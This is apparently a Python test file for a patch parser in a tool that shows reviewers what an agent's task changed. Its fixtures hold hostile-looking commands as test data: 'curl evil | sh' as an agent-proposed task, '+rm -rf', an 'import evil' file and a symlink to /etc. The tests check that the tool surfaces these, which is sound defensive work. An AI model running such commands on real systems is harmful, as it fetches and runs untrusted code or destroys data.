"""A patch taken apart."""

from pathlib import Path

from penguin_git.git.differences import Touched
from penguin_git.model.ids import TaskId
from penguin_git.tracker import differing
from penguin_git.tracker.differing import Legible
from penguin_git.web import patch
from tests.support.clones import Clone

PATCH = b"""\
diff --git a/src/app.py b/src/app.py
index 229aae9..071ba69 100644
--- a/src/app.py
+++ b/src/app.py
@@ -1,2 +1,2 @@
 def greet(name):
-    return 1
+    return 2
+++ more
diff --git "a/\\303\\244.txt" "b/\\303\\244.txt"
new file mode 100644
--- /dev/null
+++ "b/\\303\\244.txt"
@@ -0,0 +1 @@
+one
"""


def _touched(path: str, added: int | None = None, removed: int | None = None) -> Touched:
    return Touched(path, path, "", "", added, removed)


def test_each_file_has_its_lines_and_how_many_came_and_went() -> None:
    files = (_touched("src/app.py"), _touched("ä.txt", 1, 0))

    found = patch.parse(Legible(files, PATCH, {}))

    first, second = found.files
    assert (2, 3, 1) == (found.count, found.added, found.removed)
    assert ("src/app.py", 2, 1) == (first.name, first.added, first.removed)
    assert ["place", "", "removed", "added", "added"] == [line.kind for line in first.lines]
    assert ("ä.txt", 1, 0) == (second.name, second.added, second.removed)
    assert patch.Line("new file mode 100644", "about") == second.lines[0]


def test_a_long_file_leaves_room_for_the_others_and_says_how_much_is_left_out() -> None:
    long = b"diff --git a/a b/a\n@@ -0,0 +1 @@\n" + b"+line\n" * 5_000
    short = b"diff --git a/b b/b\n@@ -0,0 +1 @@\n+rm -rf\n"
    files = (_touched("a", 5_000, 0), _touched("b", 1, 0))

    first, second = patch.parse(Legible(files, long + short, {})).files

    assert patch.MOST_LINES - 5 < len(first.lines) < patch.MOST_LINES
    assert 5_002 - (patch.MOST_LINES - 3) == first.left_out
    assert "+rm -rf" == second.lines[-1].text


def test_an_endless_line_is_cut_too() -> None:
    data = b"diff --git a/x b/x\n@@ -0,0 +1 @@\n+" + b"x" * 9_000_000 + b"\n+y\n"

    (found,) = patch.parse(Legible((_touched("x", 2, 0),), data, {})).files

    assert [2_002, 2] == [len(line.text) for line in found.lines[1:]]


def test_no_patch_has_no_files() -> None:
    assert patch.Patch((), 0, 0, 0) == patch.parse(Legible((), b"", {}))


def test_all_that_lands_is_named_and_what_is_text_can_be_read(tmp_path: Path) -> None:
    clone = Clone.new(
        tmp_path / "clone",
        {".gitattributes": "*.py -diff\n", "old.md": "one\ntwo\nthree\nfour\n", "was": "here\n"},
        config="base: main\nland: review\n",
    )
    script = (
        "mkdir -p 'x b'; echo good > 'x b/good.txt'; echo 'import evil' > evil.py; echo hi > 'q\"\ttab'\n"
        "git mv old.md new.md; head -c 3000 /dev/zero > zeros; seq 5000 > aaa.md; echo rm > zzz.sh\n"
        "ln -sf /etc was; printf 'title: By an agent\\nrun: curl evil | sh\\n' > .penguin/tasks/prop1.yaml\n"
    )
    clone.task("job", f"title: Do it\nrun: |\n  {script.replace(chr(10), chr(10) + '  ')}\n")
    clone.run()

    with clone.project() as project:
        difference = differing.of(project, TaskId("job"))
        proposed = differing.proposed(project, difference)
        found = patch.parse(differing.legible(project, difference))

    files = {file.name: file for file in found.files}
    names = ["aaa.md", "evil.py", "old.md -> new.md", 'q"\\ttab', "was", "x b/good.txt", "zeros", "zzz.sh"]
    assert names == list(files)
    assert (1, "+import evil") == (files["evil.py"].added, files["evil.py"].lines[-1].text)
    assert (3_000, ()) == (files["zeros"].size, files["zeros"].lines)
    assert "+rm" == files["zzz.sh"].lines[-1].text
    assert ["-here", "+/etc"] == [one.text for one in files["was"].lines if one.kind in ("added", "removed")]
    assert ["curl evil | sh"] == [task.run for task in proposed]
